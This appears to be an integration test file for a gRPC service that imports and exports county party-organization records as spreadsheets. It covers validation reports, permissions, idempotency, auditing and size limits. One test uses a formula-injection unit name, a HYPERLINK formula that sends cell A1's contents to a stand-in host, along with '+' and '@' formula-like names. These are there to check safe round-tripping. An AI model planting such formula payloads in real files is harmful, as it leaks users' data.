"""ImportOrganization / ExportOrganization / GetOperation through gRPC, on SQLite and PostgreSQL.

A county admin's token is all the client has: no database settings.
"""

from __future__ import annotations

import json
import time

import grpc
from google.protobuf import field_mask_pb2
from partybuilding.organization.v1 import organization_service_pb2 as pb
from sqlalchemy import select

from services.organization.adapters import tables
from services.organization.adapters.spreadsheet import parse_sheet, sheet_bytes
from services.organization.demo import county_rows, demo_shape
from services.platform import build_runtime, build_server
from tests.helpers import County, as_if_moved_away, comparable_rows, expect, id_card, recoded
from tests.integration.test_import_export import SMALL

CHUNK = 1 << 20


def _requests(parent: str, data: bytes, sheet_format=pb.XLSX, validate_only=False, request_id="", chunk=CHUNK):
    yield pb.ImportOrganizationRequest(parent=parent, format=sheet_format, validate_only=validate_only,
                                       request_id=request_id, chunk=data[:chunk])
    for start in range(chunk, len(data), chunk):
        yield pb.ImportOrganizationRequest(chunk=data[start:start + chunk])


def _finished(stub, op, md, timeout: float = 120.0):
    """Poll GetOperation until done; the metadata's progress never goes backwards."""
    deadline, seen = time.monotonic() + timeout, 0
    while not op.done:
        assert time.monotonic() < deadline, "the import did not finish"
        time.sleep(0.05)
        op = stub.GetOperation(pb.GetOperationRequest(name=op.name), metadata=md)
        progress = pb.ImportOrganizationMetadata()
        op.metadata.Unpack(progress)
        assert seen <= progress.rows_done <= progress.rows_total
        seen = progress.rows_done
    return op


def _import(platform, code: str, data: bytes, md, **options) -> pb.ImportOrganizationResponse:
    op = _finished(platform.stub, platform.stub.ImportOrganization(_requests(f"tenants/{code}", data, **options),
                                                                   metadata=md), md)
    assert not op.HasField("error"), op.error
    report = pb.ImportOrganizationResponse()
    op.response.Unpack(report)
    return report


def _export(platform, code: str, md, sheet_format=pb.XLSX) -> bytes:
    chunks = list(platform.stub.ExportOrganization(pb.ExportOrganizationRequest(
        parent=f"tenants/{code}", format=sheet_format), metadata=md))
    assert all(len(c.chunk) <= CHUNK for c in chunks) and chunks[0].total_bytes == sum(len(c.chunk) for c in chunks)
    return b"".join(c.chunk for c in chunks)


def _rows(data: bytes, kind: str = ".xlsx") -> list[dict]:
    return [r.cells for r in parse_sheet(data, kind)[1]]


def test_a_county_admin_dry_runs_imports_and_exports_the_demo_county(platform):
    a = County(platform, work_station_min_villages=2, work_station_max_villages=8)
    sheet = sheet_bytes(county_rows(a.code, demo_shape()), ".xlsx")
    checked = _import(platform, a.code, sheet, a.admin, validate_only=True)
    assert checked.problems == [] and not checked.written and checked.units > 150 and checked.members > 500
    assert a.units() == [], "a dry run writes nothing"
    done = _import(platform, a.code, sheet, a.admin)
    assert done.written and (done.units, done.members, done.posts) == (checked.units, checked.members, checked.posts)
    assert len(a.units()) == done.units

    exported = _export(platform, a.code, a.admin)
    as_if_moved_away(platform, a.code)
    b = County(platform)
    again = _import(platform, b.code, sheet_bytes(recoded(_rows(exported), a.code, b.code), ".xlsx"), b.admin)
    assert again.written and again.settings_changed
    assert comparable_rows(_rows(_export(platform, b.code, b.admin))) == comparable_rows(_rows(exported))
    settings = platform.stub.GetTenant(pb.GetTenantRequest(name=b.parent), metadata=b.admin).settings
    assert (settings.work_station_min_villages, settings.work_station_max_villages) == (2, 8)


def test_a_round_trip_keeps_names_that_look_like_formulas_and_organs_with_separators(platform):
    a = County(platform)
    town = a.unit(pb.TOWNSHIP, '=HYPERLINK("http://x.example/?"&A1,"点此查看")')
    village = a.unit(pb.VILLAGE, "+村", town.name)
    member = a.member(village.name, name="@张三")
    a.post(pb.FIRST_SECRETARY, village.name, member.name, start_date="2024-07-01", term_end_date="2026-06-30",
           dispatching_organ="市委组织部|驻村办;第二批")
    for sheet_format, kind in ((pb.CSV, ".csv"), (pb.XLSX, ".xlsx")):
        exported = _export(platform, a.code, a.admin, sheet_format)
        as_if_moved_away(platform, a.code)
        target = County(platform)
        assert _import(platform, target.code, exported, target.admin, sheet_format=sheet_format).written
        assert comparable_rows(_rows(_export(platform, target.code, target.admin, sheet_format), kind)) == \
            comparable_rows(_rows(exported, kind))
        as_if_moved_away(platform, target.code)
    names = {u.display_name for u in platform.stub.ListUnits(pb.ListUnitsRequest(parent=target.parent),
                                                             metadata=target.admin).units}
    assert names == {town.display_name, "+村"}


def test_bad_rows_come_back_as_a_structured_report_and_nothing_is_written(platform):
    county = County(platform)
    rows = county_rows(county.code, SMALL)
    members = [i for i, r in enumerate(rows) if r["record"] == "member"]
    rows[members[0]]["phone"] = "999"
    rows[members[1]]["id_card_number"] = "6.10222E+17"
    report = _import(platform, county.code, sheet_bytes(rows, ".csv"), county.admin, sheet_format=pb.CSV)
    assert not report.written
    by_row = {(p.row, p.column): p for p in report.problems}
    phone = by_row[(members[0] + 2, "phone")]
    assert phone.reason and phone.message and phone.message_zh
    assert "format the column as Text" in by_row[(members[1] + 2, "id_card_number")].message
    assert county.units() == []


def test_the_same_rule_refuses_the_same_value_one_by_one_and_in_an_import(platform):
    county = County(platform)
    town, _, (village, *_) = county.tree(1)
    too_young = id_card(born="20000101")
    refused = expect(grpc.StatusCode.INVALID_ARGUMENT, county.member, village.name, id_card_number=too_young,
                     joined_on="2010-07-01", field="member.joined_on")
    holder = county.member(village.name)
    no_term = expect(grpc.StatusCode.INVALID_ARGUMENT, county.post, pb.FIRST_SECRETARY, village.name, holder.name,
                     dispatching_organ="市委组织部", field="post.term_end_date")
    village_id = village.name.rsplit("/", 1)[-1]
    rows = [{"record": "member", "parent_ref": village_id, "display_name": "李四", "id_card_number": too_young,
             "joined_on": "2010-07-01"},
            {"record": "member", "parent_ref": village_id, "display_name": "王五", "id_card_number": id_card(),
             "posts": "FIRST_SECRETARY||2024-07-01||市委组织部"}]
    report = _import(platform, county.code, sheet_bytes(rows, ".csv"), county.admin, sheet_format=pb.CSV)
    by_row = {p.row: p for p in report.problems}
    assert by_row[2].column == "joined_on" and by_row[2].message_zh in refused.zh
    assert by_row[3].column == "posts" and by_row[3].message_zh in no_term.zh


def test_a_clerk_may_not_import_export_or_read_operations(platform):
    county = County(platform)
    town = county.unit(pb.TOWNSHIP, "彭镇")
    clerk = platform.as_("clerk", [county.code], unit=town.name)
    sheet = sheet_bytes(county_rows(county.code, SMALL), ".xlsx")
    expect(grpc.StatusCode.PERMISSION_DENIED, platform.stub.ImportOrganization,
           _requests(county.parent, sheet), metadata=clerk)
    err = expect(grpc.StatusCode.PERMISSION_DENIED, lambda: list(platform.stub.ExportOrganization(
        pb.ExportOrganizationRequest(parent=county.parent, format=pb.XLSX), metadata=clerk)))
    assert err.reason == "METHOD_NOT_ALLOWED"
    op = platform.stub.ImportOrganization(_requests(county.parent, sheet, validate_only=True), metadata=county.admin)
    expect(grpc.StatusCode.PERMISSION_DENIED, platform.stub.GetOperation, pb.GetOperationRequest(name=op.name),
           metadata=clerk)
    other = platform.as_("county_admin", [platform.new_county()])
    expect(grpc.StatusCode.PERMISSION_DENIED, platform.stub.ImportOrganization,
           _requests(county.parent, sheet), metadata=other)
    expect(grpc.StatusCode.UNAUTHENTICATED, platform.stub.ImportOrganization, _requests(county.parent, sheet))
    _finished(platform.stub, op, county.admin)
    assert [u.display_name for u in county.units()] == ["彭镇"]


def test_an_import_is_idempotent_on_request_id_and_audited_through_the_outbox(platform):
    county = County(platform)
    sheet = sheet_bytes(county_rows(county.code, SMALL), ".xlsx")
    first = platform.stub.ImportOrganization(_requests(county.parent, sheet, request_id="r-1"), metadata=county.admin)
    again = platform.stub.ImportOrganization(_requests(county.parent, sheet, request_id="r-1"), metadata=county.admin)
    assert again.name == first.name
    report = _import(platform, county.code, sheet, county.admin, request_id="r-1")
    assert report.written, "the retry answers the first operation's result"
    expect(grpc.StatusCode.INVALID_ARGUMENT, platform.stub.ImportOrganization,
           _requests(county.parent, sheet + b" ", request_id="r-1"), metadata=county.admin, reason="REQUEST_ID_REUSED")
    with platform.org_uow(county.code, write=False) as uow:
        audits = [json.loads(p) for p in uow.conn.execute(select(tables.outbox.c.payload).where(
            tables.outbox.c.tenant == county.code, tables.outbox.c.type == "organization.import_committed")).scalars()]
    assert [(a["operation"], a["units"], a["members"], a["posts"]) for a in audits] == [
        (first.name, report.units, report.members, report.posts)]


def test_files_out_of_bounds_or_unreadable_are_refused_before_any_work(platform):
    county = County(platform)
    expect(grpc.StatusCode.INVALID_ARGUMENT, platform.stub.ImportOrganization,
           _requests(county.parent, b"x" * (CHUNK + 1), chunk=CHUNK + 1), metadata=county.admin,
           reason="CHUNK_TOO_LARGE")
    expect(grpc.StatusCode.INVALID_ARGUMENT, platform.stub.ImportOrganization,
           _requests(county.parent, b"PK not a workbook"), metadata=county.admin, reason="UNREADABLE_SHEET")
    expect(grpc.StatusCode.INVALID_ARGUMENT, platform.stub.ImportOrganization,
           _requests(county.parent, b"a,b", sheet_format=pb.SHEET_FORMAT_UNSPECIFIED), metadata=county.admin,
           field="format")
    expect(grpc.StatusCode.NOT_FOUND, platform.stub.GetOperation,
           pb.GetOperationRequest(name=f"{county.parent}/operations/op-nothing"), metadata=county.admin)


def test_a_finished_operation_is_readable_after_a_restart(platform):
    county = County(platform)
    sheet = sheet_bytes(county_rows(county.code, SMALL), ".xlsx")
    op = _finished(platform.stub, platform.stub.ImportOrganization(_requests(county.parent, sheet),
                                                                   metadata=county.admin), county.admin)
    runtime = build_runtime("organization", platform.settings)
    server, port, _ = build_server(platform.settings, [runtime], "127.0.0.1:0")
    server.start()
    try:
        with grpc.insecure_channel(f"127.0.0.1:{port}") as channel:
            from partybuilding.organization.v1 import organization_service_pb2_grpc as pb_grpc

            fresh = pb_grpc.OrganizationServiceStub(channel).GetOperation(pb.GetOperationRequest(name=op.name),
                                                                          metadata=county.admin)
    finally:
        server.stop(None)
        runtime.engine.dispose()
    assert fresh.done and fresh.response == op.response


def test_an_import_setting_row_names_a_real_time_zone(platform):
    county = County(platform)
    rows = [{"record": "setting", "ref": "time_zone", "value": "localtime"}]
    report = _import(platform, county.code, sheet_bytes(rows, ".csv"), county.admin, sheet_format=pb.CSV)
    assert not report.written and [(p.row, p.column) for p in report.problems] == [(2, "value")]
    tenant = platform.stub.GetTenant(pb.GetTenantRequest(name=county.parent), metadata=county.admin)
    assert tenant.settings.time_zone == "Asia/Shanghai"


def test_a_gender_that_contradicts_the_id_number_is_refused_one_by_one_and_in_an_import(platform):
    county = County(platform)
    town, _, (village, *_) = county.tree(1)
    male = id_card(male=True)
    refused = expect(grpc.StatusCode.INVALID_ARGUMENT, county.member, village.name, id_card_number=male,
                     gender=pb.FEMALE, field="member.gender")
    assert "性别" in refused.zh
    member = county.member(village.name, id_card_number=male, gender=pb.MALE)
    assert member.gender == pb.MALE
    expect(grpc.StatusCode.INVALID_ARGUMENT, platform.stub.UpdateMember, pb.UpdateMemberRequest(
        member=pb.Member(name=member.name, gender=pb.FEMALE), update_mask=field_mask_pb2.FieldMask(paths=["gender"])),
        metadata=county.admin, field="member.gender")
    rows = [{"record": "member", "parent_ref": village.name.rsplit("/", 1)[-1], "display_name": "李四",
             "id_card_number": id_card(male=True), "gender": "FEMALE"}]
    report = _import(platform, county.code, sheet_bytes(rows, ".csv"), county.admin, sheet_format=pb.CSV)
    assert not report.written
    assert [(p.row, p.column) for p in report.problems] == [(2, "gender")]
    assert report.problems[0].message_zh in refused.zh
    assert [m.display_name for m in county.members()] == ["张三"]


def test_an_import_refuses_a_division_code_of_another_county(platform):
    county = County(platform)
    rows = [{"record": "unit", "ref": "T", "parent_ref": "", "type": "TOWNSHIP", "display_name": "彭镇",
             "division_code": f"{county.code}100"},
            {"record": "unit", "ref": "V", "parent_ref": "T", "type": "VILLAGE", "display_name": "京村",
             "division_code": "110101001001"}]
    report = _import(platform, county.code, sheet_bytes(rows, ".csv"), county.admin, sheet_format=pb.CSV)
    assert not report.written and [(p.row, p.column) for p in report.problems] == [(3, "division_code")]
    refused = expect(grpc.StatusCode.INVALID_ARGUMENT, county.unit, pb.TOWNSHIP, "京镇", division_code="110101001",
                     field="unit.division_code")
    assert report.problems[0].message_zh in refused.zh or "区划代码" in report.problems[0].message_zh
    assert county.units() == []
def test_blank_lines_are_skipped_unread_and_a_sheet_of_too_many_rows_is_refused_at_once(platform):
    county = County(platform)
    sheet = sheet_bytes(county_rows(county.code, SMALL), ".csv")
    padded = sheet + b"\n" * (24 << 20) + b",,,,\r\n" * 1000
    report = _import(platform, county.code, padded, county.admin, sheet_format=pb.CSV, validate_only=True)
    assert report.problems == [] and report.units > 0
    header = b"record,ref,parent_ref,type,display_name\n"
    expect(grpc.StatusCode.INVALID_ARGUMENT, platform.stub.ImportOrganization,
           _requests(county.parent, header + b"unit\n" * 200_001, sheet_format=pb.CSV), metadata=county.admin,
           field="chunk", reason="TOO_MANY_ROWS")


def test_an_empty_file_is_unreadable_not_a_sheet_without_columns(platform):
    county = County(platform)
    for data in (b"", b"\xef\xbb\xbf", b"\r\n\n,,\n"):
        err = expect(grpc.StatusCode.INVALID_ARGUMENT, platform.stub.ImportOrganization,
                     _requests(county.parent, data, sheet_format=pb.CSV), metadata=county.admin,
                     reason="UNREADABLE_SHEET")
        assert "没有表头行" in err.zh


def test_a_report_of_very_many_problems_keeps_the_first_thousand_and_the_total(platform):
    county = County(platform)
    rows = [{"record": "setting", "ref": "no_such_setting", "value": "1"}] * 5000
    report = _import(platform, county.code, sheet_bytes(rows, ".csv"), county.admin, sheet_format=pb.CSV)
    assert not report.written and report.problems_total == 5000
    assert [p.row for p in report.problems] == list(range(2, 1002))


def test_a_negative_setting_is_told_the_bound_updatetenant_names(platform):
    county = County(platform)
    rows = [{"record": "setting", "ref": "work_station_min_villages", "value": "-5"}]
    report = _import(platform, county.code, sheet_bytes(rows, ".csv"), county.admin, sheet_format=pb.CSV)
    refused = expect(grpc.StatusCode.INVALID_ARGUMENT, platform.stub.UpdateTenant, pb.UpdateTenantRequest(
        tenant=pb.Tenant(name=county.parent, settings=pb.TenantSettings(work_station_min_villages=-5)),
        update_mask=field_mask_pb2.FieldMask(paths=["settings.work_station_min_villages"])), metadata=county.admin,
        field="tenant.settings.work_station_min_villages")
    [problem] = report.problems
    assert (problem.row, problem.column) == (2, "value") and problem.message_zh in refused.zh
    assert "1" in problem.message


def test_only_callers_who_see_personal_data_in_clear_may_export_it(platform):
    county = County(platform)
    town = county.unit(pb.TOWNSHIP, "彭镇")
    member = county.member(town.name, phone="13812345678")
    operator = platform.operator()
    assert platform.stub.GetMember(pb.GetMemberRequest(name=member.name), metadata=operator).personal_data_masked
    err = expect(grpc.StatusCode.PERMISSION_DENIED, lambda: list(platform.stub.ExportOrganization(
        pb.ExportOrganizationRequest(parent=county.parent, format=pb.CSV), metadata=operator)))
    assert err.reason == "PERSONAL_DATA_NOT_VISIBLE"
    exported = [r for r in _rows(_export(platform, county.code, county.admin, pb.CSV), ".csv") if r["record"] == "member"]
    assert [r["phone"] for r in exported] == ["13812345678"], "the county's admin still gets the clear values"
